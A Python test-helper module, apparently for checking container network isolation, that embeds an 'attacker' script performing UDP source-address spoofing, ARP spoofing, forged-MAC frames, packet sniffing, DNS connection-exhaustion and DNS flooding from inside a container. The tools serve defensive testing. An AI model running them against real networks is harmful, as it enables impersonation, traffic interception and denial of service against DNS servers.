"""What an attacker in a container runs (the host's own /usr/bin/python3, standard library
only, in a container made from the "host" image): ``python3 -c ATTACKER <command> <args...>``.

Commands (each prints one line of result, or fails with a traceback):
- ``spoof-udp HOW SRC DST PORT PAYLOAD``: send one UDP datagram from the forged source address
  SRC; HOW is ``raw`` (a raw socket, IP_HDRINCL: needs NET_RAW, which Docker's default
  capabilities include), ``transparent`` (IP_TRANSPARENT: NET_RAW too) or ``freebind``
  (IP_FREEBIND: no capability). Prints "sent", or "refused <errno name>" when the kernel of
  the container refuses to send it.
- ``udp DST PORT PAYLOAD``: one genuine datagram.
- ``arp OP SENDER_IP TARGET_IP TARGET_MAC``: an ARP request or reply (OP ``request``/``reply``)
  from eth0's MAC that claims SENDER_IP, sent to TARGET_MAC (AF_PACKET: NET_RAW).
- ``frame SRC_MAC``: one Ethernet broadcast frame from the forged source MAC (an ARP request
  for nobody), which a learning bridge would remember on this port.
- ``listen-udp PORT``: print "ready", then "SRC PAYLOAD" for each datagram, until one whose
  payload is "end".
- ``connect ADDR PORT``: one TCP connection; prints "connected" and what the server says
  first (or "connected, silent"), "refused" or "timeout".
- ``sniff PAYLOAD END``: read every frame that reaches eth0 (AF_PACKET: NET_RAW), print
  "ready", then, once a frame carries END, "sniffed" if one carried PAYLOAD, else "nothing".
- ``mac``: eth0's MAC address.
- ``dns SERVER NAME udp|tcp``: one A query; prints the answer's rcode and its addresses.
- ``dns-hold SERVER NAME COUNT``: COUNT TCP connections to SERVER:53, each with the smallest
  receive buffer and segment size, each asking NAME and never reading the answer; prints
  "held", then opens one more every 0.2 s.
- ``dns-flood SERVER PREFIX COUNT``: COUNT queries over UDP for PREFIX-<n>.example without
  waiting for answers; prints "sent".
- ``dns-raw SERVER HEX``: one UDP datagram of the bytes HEX to SERVER:53; prints "sent".
"""

ATTACKER = r"""
import errno, socket, struct, sys

def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF

def mac_of(iface="eth0"):
    with open("/sys/class/net/%s/address" % iface) as f:
        return f.read().strip()

def mac_bytes(text):
    return bytes(int(part, 16) for part in text.split(":"))

def spoof_udp(how, src, dst, port, payload):
    data = payload.encode()
    try:
        if how == "raw":
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            udp = struct.pack("!HHHH", 40000, port, 8 + len(data), 0) + data
            header = struct.pack(
                "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                socket.inet_aton(src), socket.inet_aton(dst),
            )
            header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
            s.sendto(header + udp, (dst, 0))
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            option = 19 if how == "transparent" else 15  # IP_TRANSPARENT, IP_FREEBIND
            s.setsockopt(socket.SOL_IP, option, 1)
            s.bind((src, 0))
            s.sendto(data, (dst, port))
    except OSError as exc:
        print("refused", errno.errorcode.get(exc.errno, exc.errno))
        return
    print("sent")

def udp(dst, port, payload):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(payload.encode(), (dst, port))
    print("sent")

def ether_send(dst_mac, src_mac, ethertype, body):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    s.send(mac_bytes(dst_mac) + mac_bytes(src_mac) + struct.pack("!H", ethertype) + body)

def arp_body(op, sender_mac, sender_ip, target_mac, target_ip):
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + mac_bytes(sender_mac) + \
        socket.inet_aton(sender_ip) + mac_bytes(target_mac) + socket.inet_aton(target_ip)

def arp(op, sender_ip, target_ip, target_mac):
    own = mac_of()
    code = 1 if op == "request" else 2
    body = arp_body(code, own, sender_ip, target_mac if code == 2 else "00:00:00:00:00:00", target_ip)
    ether_send(target_mac, own, 0x0806, body)
    print("sent")

def frame(src_mac):
    body = arp_body(1, src_mac, "0.0.0.0", "00:00:00:00:00:00", "169.254.1.1")
    ether_send("ff:ff:ff:ff:ff:ff", src_mac, 0x0806, body)
    print("sent")

def listen_udp(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", port))
    print("ready", flush=True)
    while True:
        data, source = s.recvfrom(2048)
        print(source[0], data.decode(), flush=True)
        if data == b"end":
            return

def connect(addr, port):
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect((addr, port))
    except ConnectionRefusedError:
        print("refused")
    except (TimeoutError, socket.timeout):
        print("timeout")
    except OSError as exc:
        print("error", errno.errorcode.get(exc.errno, exc.errno))
    else:
        try:
            print("connected", s.recv(100).decode())
        except (TimeoutError, socket.timeout):
            print("connected, silent")

RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}

def dns_query(server, name, transport):
    query = dns_wire(name)
    if transport == "tcp":
        s = socket.create_connection((server, 53), timeout=5)
        s.sendall(struct.pack("!H", len(query)) + query)
        data = b""
        while len(data) < 2 or len(data) < 2 + struct.unpack("!H", data[:2])[0]:
            chunk = s.recv(65535)
            if not chunk:
                break
            data += chunk
        answer = data[2:]
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(query, (server, 53))
        answer = s.recv(65535)
    rcode = RCODES.get(answer[3] & 0xF, answer[3] & 0xF)
    count = struct.unpack("!H", answer[6:8])[0]
    # the answers' addresses: the last 4 bytes of each A record (compressed names: 16 bytes)
    offset = len(query)
    found = []
    for _ in range(count):
        rdlength = struct.unpack("!H", answer[offset + 10:offset + 12])[0]
        if rdlength == 4:
            found.append(socket.inet_ntoa(answer[offset + 12:offset + 16]))
        offset += 12 + rdlength
    print(rcode, *found)

def dns_wire(name, query_id=0x5A5A):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split("."))
    return struct.pack("!HHHHHH", query_id, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)

def dns_hold(server, name, count):
    held = []

    def hold():
        try:
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
            # small segments: the server's send buffer starts small too (it grows with the MSS)
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
            s.connect((server, 53))
            query = dns_wire(name)
            s.sendall(struct.pack("!H", len(query)) + query)
            held.append(s)
        except OSError:
            pass

    for _ in range(int(count)):
        hold()
    print("held", flush=True)
    import time
    while True:  # and more, as those time out
        time.sleep(0.2)
        hold()

def dns_flood(server, prefix, count):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for n in range(int(count)):
        s.sendto(dns_wire("%s-%d.example" % (prefix, n), n & 0xFFFF), (server, 53))
    print("sent")

def dns_raw(server, data):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes.fromhex(data), (server, 53))
    print("sent")

def sniff(payload, end):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL
    s.bind(("eth0", 0))
    s.settimeout(10)
    print("ready", flush=True)
    seen = False
    while True:
        frame = s.recv(65535)
        seen = seen or payload.encode() in frame
        if end.encode() in frame:
            break
    print("sniffed" if seen else "nothing")

command, args = sys.argv[1], sys.argv[2:]
if command == "spoof-udp":
    spoof_udp(args[0], args[1], args[2], int(args[3]), args[4])
elif command == "udp":
    udp(args[0], int(args[1]), args[2])
elif command == "arp":
    arp(*args)
elif command == "frame":
    frame(args[0])
elif command == "listen-udp":
    listen_udp(int(args[0]))
elif command == "connect":
    connect(args[0], int(args[1]))
elif command == "dns":
    dns_query(*args)
elif command == "dns-hold":
    dns_hold(*args)
elif command == "dns-flood":
    dns_flood(*args)
elif command == "dns-raw":
    dns_raw(*args)
elif command == "sniff":
    sniff(*args)
elif command == "mac":
    print(mac_of())
else:
    sys.exit("unknown command " + command)
"""

PYTHON = "/usr/bin/python3"  # the host's, seen in a container of the "host" image


def argv(command: str, *args: object) -> list[str]:
    """The command line that runs ``command`` of the attacker script in a container."""
    return [PYTHON, "-c", ATTACKER, command, *(str(a) for a in args)]
